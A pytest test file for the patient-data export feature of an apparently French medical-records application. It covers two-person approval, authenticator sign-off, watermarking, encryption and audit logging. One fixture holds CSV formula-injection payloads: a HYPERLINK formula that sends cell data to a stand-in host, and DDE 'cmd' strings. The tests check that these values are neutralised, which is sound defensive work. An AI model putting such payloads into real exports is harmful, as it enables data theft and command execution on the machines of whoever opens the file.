"""Controlled exports: approved by a second person, minimised, watermarked, encrypted to
the recipient, and deleted from staging."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import stat

import pytest
from django.utils import timezone

from coffre import config
from coffre.accounts import mfa, stepup
from coffre.audit.models import AccessEvent, AccountLock, AuditSettings
from coffre.exports import services
from coffre.exports.models import ExportRequest, ExportState
from coffre.identity.access import create_patient
from coffre.identity.models import Patient
from coffre.tenancy.actors import Actor, os_user
from coffre.vault import DecryptionError, decrypt_with, new_recipient_identity
from tests.cli_helpers import drop_database, make_cli
from tests.conftest import STAFF_PASSWORD, make_nir, member, patient_row, sign
from tests.refusal_helpers import refused

TODAY = dt.date.today()


@pytest.fixture(autouse=True)
def _home(tmp_path, monkeypatch):
    """A staging area of its own for each test (the master key stays where it is)."""
    monkeypatch.setenv("COFFRE_KEY_FILE", str(config.key_file()))
    monkeypatch.setenv("COFFRE_HOME", str(tmp_path / "home"))


@pytest.fixture
def people(lab_a):
    return {name: member(name, lab_a, role) for name, role in
            (("sam", "secretary"), ("maud", "lab_manager"), ("dora", "dpo"))}


@pytest.fixture
def patients(lab_a, lab_b, people):
    """Two patients of lab A in the period, one of lab A created in 2019, one of lab B."""
    a = Actor("sam", lab_a.id, "secretary", "web")
    inside = [create_patient(a, patient_row()),
              create_patient(a, patient_row(nir=make_nir("M", 1970, 5), sex="M",
                                            birth_name="Quéméneur", first_names="Yann",
                                            birth_date="1970-05-02", phone="06 98 76 54 32",
                                            email="yann.q@example.fr",
                                            notes="Traitement antirétroviral"))]
    old = create_patient(a, patient_row(nir=make_nir("F", 1960, 1), birth_name="Anciennet",
                                        birth_date="1960-01-20", email="old@example.fr"))
    Patient.unscoped.filter(id=old.id).update(
        created_at=timezone.make_aware(dt.datetime(2019, 6, 1)))
    other = create_patient(Actor("bob", lab_b.id, "secretary", "web"),
                           patient_row(birth_name="Autrelabo", email="b@example.fr"))
    return inside, old, other


def ask(lab, recipient, fields="nir,birth_name", by="sam", **extra):
    return services.request_export(
        lab, purpose="migration vers le nouveau SIL", recipient="Éditeur X",
        recipient_key=recipient, fields=fields, period_from=TODAY - dt.timedelta(days=1),
        period_to=TODAY + dt.timedelta(days=1), requested_by=by, **extra)


def approve(export, username: str, **where):
    """Approve as ``username``, with their password and an unused second-factor code (in
    the CLI, as this test's operating-system user, unless ``os_user`` says another)."""
    return services.approve(export.pk, sign(username), channel="cli", **where)


def produced(lab, recipient, **extra):
    export = ask(lab, recipient, **extra)
    approve(export, "maud")
    return services.run(export.pk)


def decrypted(export, identity) -> str:
    return decrypt_with(identity, services.staged_file(export).read_bytes()).decode()


def test_the_file_holds_only_requested_fields_of_covered_patients(lab_a, patients, keys):
    inside, old, _other = patients
    export = produced(lab_a, keys[1])
    assert export.state == ExportState.PRODUCED and export.rows_exported == 2
    rows = list(csv.reader(io.StringIO(decrypted(export, keys[0]))))
    assert rows[0] == ["nir", "birth_name"]
    body = {tuple(r) for r in rows[1:]}
    assert all(len(r) == 2 for r in body) and 4 <= len(body) <= 5  # 2 + 2-3 watermarks
    for record in inside:
        assert (record.values["nir"], record.values["birth_name"]) in body
    flat = "\n".join(",".join(r) for r in rows)
    for absent in (old.values["nir"], "Anciennet", "Autrelabo", "example.fr", "Traitement",
                   "1985-03-14"):
        assert absent not in flat
    path = services.staged_file(export)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert not list(path.parent.glob(".*.part"))  # no temporary file left (cmdkit)
    # One "export" entry per patient, role export, and no lock for the CLI account.
    events = AccessEvent.objects.filter(action="export")
    assert {e.patient_id for e in events} == {r.id for r in inside}
    assert {(e.role, e.channel) for e in events} == {("export", "cli")}
    assert not AccountLock.objects.exists()


def test_the_staged_file_is_unreadable_without_the_private_key(lab_a, patients, keys):
    inside, _, _ = patients
    export = produced(lab_a, keys[1], fields="nir,birth_name,first_names,email,notes")
    blob = services.staged_file(export).read_bytes()
    assert blob.startswith(b"age-encryption.org/v1")
    for record in inside:
        for value in record.values.values():
            if len(value) > 2:
                assert value.encode() not in blob
    with pytest.raises(DecryptionError):
        decrypt_with(new_recipient_identity()[0], blob)


def test_an_unapproved_export_cannot_run(lab_a, patients, keys):
    export = ask(lab_a, keys[1])
    with refused(services.ExportError, "export.run_not_approved"):
        services.run(export.pk)
    assert not services.staged_file(export).exists()


def test_self_approval_and_wrong_roles_are_refused(lab_a, patients, keys):
    export = ask(lab_a, keys[1], by="maud")
    with refused(services.ExportError, "export.second_person"):
        approve(export, "maud")
    with refused(services.ExportError, "export.second_person"):
        approve(ask(lab_a, keys[1], by="os:maud"), "maud")
    with refused(services.ExportError, "export.approver_role"):
        approve(export, "sam")
    with refused(services.ExportError, "export.not_a_member"):
        services.approve(export.pk, stepup.Credentials("bob", "x", "000000"), channel="cli")
    assert approve(export, "dora").state == ExportState.APPROVED


# --- item 5: an approval is signed by the approver, never by a typed name ---------------

def test_an_approval_without_the_approvers_password_and_code_is_refused(lab_a, patients,
                                                                         keys):
    """The 2026 incident: one shell user requested, then "approved as the DPO" by typing
    her name. Knowing the name, or even the password, is no longer enough."""
    export = ask(lab_a, keys[1], by="maud")
    genuine = sign("dora")  # enrolls dora; her recovery code stays unused below
    forged = [stepup.Credentials("dora", "a guess", genuine.code),
              stepup.Credentials("dora", STAFF_PASSWORD, "000000"),
              stepup.Credentials("dora", STAFF_PASSWORD, "")]
    for credentials, reason in zip(forged, ("password", "code", "code"), strict=True):
        with pytest.raises(stepup.StepUpRefused) as refused:
            services.approve(export.pk, credentials, channel="cli")
        assert refused.value.reason == reason
    export.refresh_from_db()
    assert (export.state, export.approved_by) == (ExportState.REQUESTED, "")
    # Each refused signature is in the access log, under the operating-system user.
    tries = AccessEvent.objects.filter(action="export_approve", outcome="refused")
    assert [(e.person, e.channel) for e in tries] == [(os_user(), "cli")] * 3
    # The genuine credentials still work once; a recovery code does not serve twice.
    assert services.approve(export.pk, genuine, channel="cli").approved_by == "dora"
    again = ask(lab_a, keys[1], by="maud")
    with pytest.raises(stepup.StepUpRefused, match="already used"):
        services.approve(again.pk, genuine, channel="cli")


def test_an_authenticator_code_signs_an_approval_once(lab_a, patients, keys):
    from django.contrib.auth import get_user_model

    dora = get_user_model().objects.get(username="dora")
    secret = mfa.enroll_confirmed(dora)
    code = mfa.current_code(secret)
    first, second = ask(lab_a, keys[1], by="maud"), ask(lab_a, keys[1], by="maud")
    credentials = stepup.Credentials("dora", STAFF_PASSWORD, code)
    assert services.approve(first.pk, credentials, channel="cli").state == "approved"
    with pytest.raises(stepup.StepUpRefused, match="already used"):  # replayed
        services.approve(second.pk, credentials, channel="cli")


def test_wrong_codes_lock_the_account_for_approvals(lab_a, patients, keys, settings):
    export = ask(lab_a, keys[1], by="maud")
    genuine = sign("dora")
    for _ in range(settings.COFFRE_LOGIN_ACCOUNT_FAILURES):
        with pytest.raises(stepup.StepUpRefused):
            services.approve(export.pk, stepup.Credentials("dora", STAFF_PASSWORD, "123456"),
                             channel="cli")
    with pytest.raises(stepup.StepUpRefused) as refused:
        services.approve(export.pk, genuine, channel="cli")
    assert refused.value.reason == "locked"
    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REQUESTED


def test_one_operating_system_user_cannot_both_request_and_approve(lab_a, patients, keys):
    """A CLI request is the operating-system user's; that user cannot approve it, even
    signing in with a DPO's genuine credentials, and no code is spent in trying."""
    export = ask(lab_a, keys[1], by=os_user())
    genuine = sign("dora")
    with refused(services.ExportError, "export.second_os_user"):
        services.approve(export.pk, genuine, channel="cli")
    from django.contrib.auth import get_user_model

    assert mfa.remaining_recovery_codes(get_user_model().objects.get(username="dora")) == 10
    # Another operating-system user, with the DPO's credentials, may.
    done = services.approve(export.pk, genuine, channel="cli", os_user="os:dpo-shell")
    assert (done.approved_by, done.approved_os_user) == ("dora", "os:dpo-shell")
    event = AccessEvent.objects.get(action="export_approve", outcome="ok")
    assert (event.person, event.role, event.channel, event.address) == (
        "dora", "dpo", "cli", "os:dpo-shell")
    # The operating-system user who requested on the web under its own name cannot
    # approve from the shell either.
    web = ask(lab_a, keys[1], by="dpo-shell")
    with refused(services.ExportError, "export.second_os_user"):
        services.approve(web.pk, sign("maud"), channel="cli", os_user="os:dpo-shell")


def test_a_large_export_needs_the_dpo(lab_a, patients, keys):
    AuditSettings.objects.create(lab=lab_a, export_approval_patients=1)
    export = ask(lab_a, keys[1])
    assert export.size_estimate == 2
    with refused(services.ExportError, "export.dpo_only"):
        approve(export, "maud")
    approve(export, "dora")
    assert services.run(export.pk).rows_exported == 2


def test_watermark_rows_attribute_a_leaked_file(lab_a, patients, keys):
    first = produced(lab_a, keys[1], fields="nir,birth_name,email")
    second = produced(lab_a, keys[1], fields="nir,birth_name,email")
    text_1, text_2 = decrypted(first, keys[0]), decrypted(second, keys[0])
    assert services.attribute(text_1) == first.pk
    assert services.attribute(text_2) == second.pk
    # Columns reordered, and without a header: still found.
    rows = list(csv.reader(io.StringIO(text_2)))
    swapped = "\n".join(",".join(reversed(r)) for r in rows) + "\n"
    assert services.attribute(swapped) == second.pk
    headerless = "\n".join(",".join(r) for r in rows[1:]) + "\n"
    assert services.attribute(headerless) == second.pk
    # Real patients only: no export claimed.
    real = [rows[0]] + [r for r in rows[1:] if r[0] in {p.values["nir"] for p in patients[0]}]
    assert services.attribute("\n".join(",".join(r) for r in real)) is None


def test_expiry_deletes_the_staged_file(lab_a, patients, keys):
    export = produced(lab_a, keys[1])
    path = services.staged_file(export)
    assert services.purge_expired() == [] and path.exists()
    assert services.purge_expired(timezone.now() + dt.timedelta(days=8)) == [export.pk]
    export.refresh_from_db()
    assert export.state == ExportState.EXPIRED and not path.exists()
    with refused(services.ExportError, "export.nothing_to_fetch"):
        services.fetch(export.pk, path.parent / "out.age")


def test_fetch_copies_the_file_out_and_deletes_it_from_staging(lab_a, patients, keys,
                                                                tmp_path):
    export = produced(lab_a, keys[1])
    staged = services.staged_file(export)
    blob = staged.read_bytes()
    out = tmp_path / "export.csv.age"
    assert services.fetch(export.pk, out).state == ExportState.DOWNLOADED
    assert out.read_bytes() == blob and not staged.exists()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with refused(services.ExportError, "export.nothing_to_fetch"):
        services.fetch(export.pk, tmp_path / "again.age")


def test_unknown_fields_are_refused_by_name(lab_a, keys):
    with refused(services.ExportError, "export.unknown_fields") as caught:
        ask(lab_a, keys[1], fields="nir,password,hiv_status")
    assert caught.value.params == {"fields": "password, hiv_status"}


def test_an_explicit_patient_list_narrows_the_export(lab_a, patients, keys):
    inside, old, _ = patients
    export = produced(lab_a, keys[1], patient_ids=[str(inside[1].id), str(old.id)])
    assert export.rows_exported == 1  # the 2019 patient is outside the period
    assert inside[1].values["nir"] in decrypted(export, keys[0])


def demo_login(demo_output: str, username: str) -> tuple[str, str]:
    """(password, TOTP secret) of a demo account, as `coffre demo` prints them."""
    found = re.search(rf"^  {re.escape(username)} / (\S+) .*\n.*TOTP key .*?\): (\S+)",
                      demo_output, re.MULTILINE)
    return found.group(1), found.group(2)


def test_the_cli_end_to_end(tmp_path_factory):
    cli, database = make_cli(tmp_path_factory.mktemp("home"))
    try:
        cli.run("init")
        demo = cli.run("demo", "--patients", "4").stdout
        finess = re.search(r"demo1 / .*FINESS (\d{9})", demo).group(1)
        identity, recipient = new_recipient_identity()
        common = ("export", "request", "--lab", finess, "--purpose", "étude", "--recipient",
                  "CHU", "--recipient-key", recipient, "--from", "2000-01-01", "--to",
                  (TODAY + dt.timedelta(days=1)).isoformat())
        bad = cli.run(*common, "--fields", "nir,mot_de_passe", check=False)
        assert bad.returncode == 2 and "mot_de_passe" in bad.stderr
        claimed = cli.run(*common, "--fields", "birth_name", "--by", "demo1", check=False)
        assert claimed.returncode == 2 and "--by is no longer accepted" in claimed.stderr
        (req,) = cli.json_lines(*common, "--fields", "birth_name,birth_date")
        assert req["state"] == "requested" and req["size_estimate"] >= 4
        ran = cli.run("export", "run", str(req["id"]), check=False)
        assert ran.returncode == 1 and "approved" in ran.stderr
        # The attack of the incident: the shell user who requested approves "as the DPO",
        # now even with the DPO's genuine password and code.
        password, secret = demo_login(demo, "demo1-dpo")
        signed = f"{password}\n{mfa.current_code(secret)}\n"
        selfish = cli.run("export", "approve", str(req["id"]), "--as", "demo1-dpo",
                          stdin=signed, check=False)
        assert selfish.returncode == 1 and "second person" in selfish.stderr
        forged = cli.run("export", "approve", str(req["id"]), "--by", "demo1-dpo",
                         check=False)
        assert forged.returncode == 2 and "--by is no longer accepted" in forged.stderr
        (listed,) = cli.json_lines("export", "list", "--lab", finess)
        assert listed["state"] == "requested" and listed["requested_by"] == os_user()

        # A request made on the web by the lab manager (demo1-resp), approved at the
        # shell by the DPO, who signs with her password and authenticator code.
        web_id = int(cli.python(
            "from coffre.exports import services\n"
            "from coffre.tenancy.services import lab_by_finess\n"
            f"print(services.request_export(lab_by_finess('{finess}'), purpose='étude',"
            f" recipient='CHU', recipient_key='{recipient}', fields='birth_name,birth_date',"
            " period_from=__import__('datetime').date(2000, 1, 1),"
            f" period_to=__import__('datetime').date.fromisoformat('{common[-1]}'),"
            " requested_by='demo1-resp', channel='web').pk)").strip())
        wrong = cli.run("export", "approve", str(web_id), "--as", "demo1-dpo",
                        stdin=f"{password}\n000000\n", check=False)
        assert wrong.returncode == 1 and "second-factor code" in wrong.stderr
        (approved,) = [json.loads(line) for line in cli.run(
            "export", "approve", str(web_id), "--as", "demo1-dpo", stdin=signed
        ).stdout.splitlines()]
        assert approved == {"id": web_id, "state": "approved", "by": "demo1-dpo",
                            "os_user": os_user()}
        (done,) = cli.json_lines("export", "run", str(web_id))
        assert done["state"] == "produced"
        out = tmp_path_factory.mktemp("out") / "x.csv.age"
        cli.run("export", "fetch", str(web_id), "--out", str(out))
        assert not (cli.home / "exports" / f"{web_id}.csv.age").exists()
        rows = list(csv.reader(io.StringIO(decrypt_with(identity, out.read_bytes()).decode())))
        assert rows[0] == ["birth_name", "birth_date"]
        assert 2 <= len(rows) - 1 - done["patients"] <= 3
        listed = {e["id"]: e for e in cli.json_lines("export", "list", "--lab", finess)}
        assert listed[web_id]["state"] == "downloaded"
        assert (listed[web_id]["approved_by"], listed[web_id]["approved_os_user"]) == (
            "demo1-dpo", os_user())
    finally:
        drop_database(database)


def test_a_malformed_recipient_key_is_refused_with_a_clear_error(lab_a):
    import datetime as dt

    from coffre.exports import services

    with refused(services.ExportError, "export.recipient_key"):
        services.request_export(lab_a, purpose="étude", recipient="CHU", recipient_key="age1xyz",
                                fields="nir", period_from=dt.date(2020, 1, 1),
                                period_to=dt.date(2020, 12, 31), requested_by="anne")


def test_each_step_of_an_export_is_in_the_access_log(lab_a, patients, keys, tmp_path):
    export = produced(lab_a, keys[1])
    services.fetch(export.pk, tmp_path / "out.age")
    refused = ask(lab_a, keys[1])
    services.refuse(refused.pk, "dora", channel="web")
    steps = AccessEvent.objects.filter(kind="export", patient_id=None).order_by("id")
    assert [(e.action, e.person, e.role) for e in steps] == [
        ("export_request", "sam", "secretary"), ("export_approve", "maud", "lab_manager"),
        ("export_fetch", steps[2].person, "export"), ("export_request", "sam", "secretary"),
        ("export_refuse", "dora", "dpo")]
    assert steps[2].person.startswith("os:")
    from coffre.audit import log

    assert log.open_text(steps[4].purpose, "purpose") == f"export {refused.pk}"


def test_a_request_never_produced_expires_and_can_no_longer_be_approved(lab_a, patients,
                                                                         keys):
    waiting = ask(lab_a, keys[1])
    approved = ask(lab_a, keys[1])
    approve(approved, "maud")
    later = timezone.now() + dt.timedelta(days=services.REQUEST_DAYS - 1)
    assert services.purge_expired(later) == []
    later += dt.timedelta(days=2)
    assert sorted(services.purge_expired(later)) == [waiting.pk, approved.pk]
    with refused(services.ExportError, "export.not_awaiting_approval"):
        approve(waiting, "maud")
    with refused(services.ExportError, "export.run_not_approved"):
        services.run(approved.pk)
    assert AccessEvent.objects.filter(action="export_expire").count() == 2


def test_a_run_that_fails_midway_leaves_no_file_and_no_audit_of_patients(
        lab_a, patients, keys, monkeypatch):
    export = ask(lab_a, keys[1])
    approve(export, "maud")
    calls = []
    real = services.open_patient

    def fails_on_the_second(patient, fields):
        calls.append(patient.id)
        if len(calls) == 2:
            raise RuntimeError("disk vanished")
        return real(patient, fields)

    monkeypatch.setattr(services, "open_patient", fails_on_the_second)
    with pytest.raises(RuntimeError, match="disk vanished"):
        services.run(export.pk)
    export.refresh_from_db()
    assert export.state == ExportState.APPROVED
    assert list(services.staging_dir().iterdir()) == []
    assert not AccessEvent.objects.filter(action="export").exists()


# --- item 10: no cell of an export runs as a formula in a spreadsheet --------------------

FORMULAS = {"address": '=HYPERLINK("https://evil.example/?"&A2,"Plan d\'accès")',
            "notes": "-2+3+cmd|' /C calc'!A0",
            "insurer": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_formula_values_are_neutralised_in_the_csv(lab_a, patients, keys):
    """A patient registered with formula-like values (the registry accepts free text):
    opened in a spreadsheet, the export must show them as text, not run them."""
    create_patient(Actor("sam", lab_a.id, "secretary", "web"),
                   patient_row(nir=make_nir("F", 1990, 7), birth_name="Formule",
                               birth_date="1990-07-01", **FORMULAS))
    export = produced(lab_a, keys[1], fields="birth_name,address,notes,insurer,phone")
    rows = list(csv.reader(io.StringIO(decrypted(export, keys[0]))))
    (mine,) = [r for r in rows if r[0] == "Formule"]
    assert mine[1:4] == ["'" + FORMULAS["address"], "'" + FORMULAS["notes"],
                         "'" + FORMULAS["insurer"]]
    assert mine[4].startswith("+33")  # a phone in E.164 is a number, left as it is
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-]\d+", cell), cell
    # The watermark rows still name the export once neutralised cells are read back.
    assert services.attribute(decrypted(export, keys[0])) == export.pk


# --- item 13: the purpose and the recipient are sealed ----------------------------------

def test_the_purpose_and_recipient_are_sealed_in_the_database(lab_a, patients, keys):
    from django.db import connection

    export = services.request_export(
        lab_a, purpose="Dossier de Claire Lefèvre : suivi VIH, transmission au CHU",
        recipient="Dr Morvan pour Claire Lefèvre", recipient_key=keys[1], fields="nir",
        period_from=TODAY, period_to=TODAY, requested_by="sam")
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM exports_exportrequest WHERE id = %s", [export.pk])
        row = cursor.fetchone()
    stored = b"".join(bytes(v) if isinstance(v, (bytes, memoryview)) else str(v).encode()
                      for v in row)
    for clear in ("Lefèvre", "VIH", "Morvan"):
        assert clear.encode() not in stored
    opened = services.texts(ExportRequest.objects.get(pk=export.pk))
    assert (opened.purpose, opened.recipient) == (
        "Dossier de Claire Lefèvre : suivi VIH, transmission au CHU",
        "Dr Morvan pour Claire Lefèvre")
    # Bound to its row: a sealed purpose copied onto another request does not open.
    other = ask(lab_a, keys[1])
    ExportRequest.objects.filter(pk=other.pk).update(
        purpose=ExportRequest.objects.get(pk=export.pk).purpose)
    with pytest.raises(DecryptionError):
        services.texts(ExportRequest.objects.get(pk=other.pk))


@pytest.mark.django_db(transaction=True)
def test_the_migration_seals_the_purposes_already_stored(vault, lab_a, keys):
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    from tests.app_role import as_owner

    before = [("exports", "0002_exportrequest_format")]
    with as_owner():  # migrations run as the owner role, as in production
        executor = MigrationExecutor(connection)
        executor.migrate(before)
        old = executor.loader.project_state(before).apps.get_model("exports",
                                                                   "ExportRequest")
        row = old.objects.create(lab_id=lab_a.id, purpose="Dossier de Yann Quéméneur",
                                 recipient="Dr Morvan", recipient_key=keys[1],
                                 fields="nir", period_from=TODAY, period_to=TODAY,
                                 requested_by="os:x")
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
    export = ExportRequest.objects.get(pk=row.pk)
    assert "Quéméneur".encode() not in bytes(export.purpose)
    assert services.texts(export) == services.Texts("Dossier de Yann Quéméneur", "Dr Morvan")


def command(argv: list[str], stdin: str, monkeypatch) -> int:
    """``coffre export ...``'s handler in this test's database, its standard input given
    (not a terminal: the password and the code are read from its two lines)."""
    from coffre.cli import COMMANDS, parser

    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    args = parser().parse_args(argv)
    return COMMANDS[args.command](args)


def test_a_cli_refusal_signs_in_too(lab_a, patients, keys, monkeypatch, capsys):
    from coffre.cli import BadInput, CommandError

    export = ask(lab_a, keys[1], by="maud")
    argv = ["export", "refuse", str(export.pk), "--as", "dora"]
    with pytest.raises(BadInput, match="two lines"):
        command(argv, "", monkeypatch)
    with pytest.raises(CommandError, match="wrong user name or password"):
        command(argv, f"not hers\n{sign('dora').code}\n", monkeypatch)
    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REQUESTED
    credentials = sign("dora")
    assert command(argv, f"{credentials.password}\n{credentials.code}\n", monkeypatch) == 0
    assert json.loads(capsys.readouterr().out)["os_user"] == os_user()
    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REFUSED
    event = AccessEvent.objects.get(action="export_refuse")
    assert (event.person, event.role, event.channel, event.address) == (
        "dora", "dpo", "cli", os_user())
